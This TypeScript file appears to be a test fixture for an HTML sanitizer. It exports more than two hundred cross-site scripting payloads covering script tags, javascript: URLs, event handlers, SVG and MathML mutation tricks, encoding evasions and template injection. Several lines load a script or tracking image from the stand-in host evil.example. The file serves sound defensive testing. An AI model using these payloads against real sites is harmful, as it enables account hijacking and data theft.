/** More than two hundred ways to bring a script into a page, for every place that takes text from people (S8). */

const run = 'window.ran=1';
const events = [
  'onerror', 'onload', 'onclick', 'onfocus', 'onmouseover', 'onanimationstart', 'ontoggle', 'onbegin', 'onpointerenter', 'onwheel', 'oncopy', 'oninput', 'onscrollend', 'ontransitionend', 'onbeforematch',
];
const tags = ['img src=x', 'svg', 'body', 'video src=x', 'audio src=x', 'details open', 'input autofocus', 'marquee', 'p', 'span data-type="mention"', 'li'];

const plain = [
  `<script>${run}</script>`, `<SCRIPT SRC=//evil.example/x.js></SCRIPT>`, `<scr<script>ipt>${run}</scr</script>ipt>`, `<script/x>${run}</script>`, `<script\n>${run}</script\n>`, `</p><script>${run}</script>`,
  `<iframe src="javascript:${run}"></iframe>`, `<iframe srcdoc="<script>${run}</script>"></iframe>`, `<object data="javascript:${run}"></object>`, `<embed src="javascript:${run}">`, `<a href="javascript:${run}">x</a>`,
  `<a href="JaVaScRiPt:${run}">x</a>`, `<a href="java&#x09;script:${run}">x</a>`, `<a href=" &#14; javascript:${run}">x</a>`, `<a href="data:text/html,<script>${run}</script>">x</a>`, `<a href="vbscript:${run}">x</a>`,
  `<form action="javascript:${run}"><button>x</button></form>`, `<button formaction="javascript:${run}">x</button>`, `<math><mi xlink:href="javascript:${run}">x</mi></math>`, `<svg><script>${run}</script></svg>`,
  `<svg><a xlink:href="javascript:${run}"><text>x</text></a></svg>`, `<svg><animate href=#x attributeName=href values=javascript:${run} /><a id=x><text>x</text></a></svg>`, `<svg><use href="data:image/svg+xml,<svg onload=${run}>#x"></use></svg>`,
  `<svg><foreignObject><script>${run}</script></foreignObject></svg>`, `<style>@import 'javascript:${run}';</style>`, `<style>*{background:url(javascript:${run})}</style>`, `<link rel=stylesheet href="javascript:${run}">`,
  `<meta http-equiv="refresh" content="0;url=javascript:${run}">`, `<base href="javascript:${run}//">`, `<p style="background:url(javascript:${run})">x</p>`, `<p style="width:expression(${run})">x</p>`,
  `<img src="javascript:${run}">`, `<img src="data:text/html;base64,PHNjcmlwdD4=">`, `<img data-file="f1" src="javascript:${run}">`, `<img data-file="f1" src="https://evil.example/track.gif">`, `<img data-file="f1" alt="&quot; onerror=&quot;${run}">`,
  `<img data-file='"><script>${run}</script>' src=x>`, `<img data-file="f1" srcset="x 1x" onerror=${run}>`, `<span data-type="mention" data-id="x" data-label="<img src=x onerror=${run}>">@x</span>`,
  `<span data-type="mention" data-id="&quot;><script>${run}</script>">@x</span>`, `<noscript><p title="</noscript><img src=x onerror=${run}>"></noscript>`, `<textarea><img src=x onerror=${run}></textarea>`,
  `<title><img src=x onerror=${run}></title>`, `<template><script>${run}</script></template>`, `<!--><img src=x onerror=${run}>-->`, `<!-- --!><img src=x onerror=${run}> -->`, `<![CDATA[<img src=x onerror=${run}>]]>`, `<?xml version="1.0"?><script>${run}</script>`,
  `<img src=x onerror\n=\n"${run}">`, `<img/src=x/onerror=${run}>`, `<img src=x onerror=${run}//`, `<<script>${run}//<</script>`, `<img """><script>${run}</script>">`, `\u0000<script>${run}</script>`, `<scr\u0000ipt>${run}</script>`,
  `＜script＞${run}＜/script＞`, `&lt;script&gt;${run}&lt;/script&gt;`, `<p>&lt;img src=x onerror=${run}&gt;</p>`, `<xss id=x tabindex=1 onfocus=${run}></xss>`, `<custom-element onclick=${run}>x</custom-element>`, `<dialog open oncancel=${run}>x</dialog>`,
  `<select><option><script>${run}</script></option></select>`, `<table background="javascript:${run}"><tr><td>x</td></tr></table>`, `<isindex type=image src=1 onerror=${run}>`, `<frameset onload=${run}>`,
  `<math><mtext><table><mglyph><style><img src=x onerror=${run}></style></mglyph></table></mtext></math>`, `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${run}></style></mglyph></form></mtext></math></form>`,
  `<svg></p><style><a id="</style><img src=x onerror=${run}>">`, `<p id="location">x</p><p name="getElementById">x</p>`, `<img name=getElementsByTagName src=x>`, `{{constructor.constructor('${run}')()}}`, `\${${run}}`,
];

/** Each once; none of them may leave anything but the allowed tags and attributes. */
export const xssPayloads: readonly string[] = [...plain, ...tags.flatMap((tag) => events.map((event) => `<${tag} ${event}="${run}">x`))];
